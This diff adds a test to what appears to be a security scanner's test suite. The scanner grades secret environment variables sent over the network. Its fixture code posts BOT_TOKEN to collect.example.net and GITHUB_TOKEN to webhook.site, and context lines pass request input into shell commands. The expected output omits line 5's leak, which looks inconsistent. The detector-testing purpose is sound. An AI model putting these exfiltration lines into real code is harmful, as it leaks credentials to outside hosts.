@@ -135,3 +135,14 @@ def test_sh_and_plumbum_programs_are_commands_a_shell_critical_another_program_a
             "    sh.git('log', request.args['rev'])\n"
             "    local['grep']('-r', request.args['p'], '/srv')\n")
     assert _by_line("command-from-request-input", text) == {5: "critical", 6: "critical", 7: "medium", 8: "medium"}
+
+
+def test_a_bot_token_in_the_telegram_api_url_is_low_sent_elsewhere_high():
+    text = ("import os, requests\n"
+            "def alert(msg):\n"
+            "    requests.get(f\"https://api.telegram.org/bot{os.environ['BOT_TOKEN']}/sendMessage?text={msg}\")\n"
+            "def leak():\n"
+            "    requests.post('https://collect.example.net/t', data={'t': os.environ['BOT_TOKEN']})\n"
+            "def ci(msg):\n"
+            "    requests.post('https://webhook.site/x', data={'t': os.environ['GITHUB_TOKEN']})\n")
+    assert _by_line("secret-env-var-sent-over-network", text, "notify.py") == {3: "low", 7: "high"}
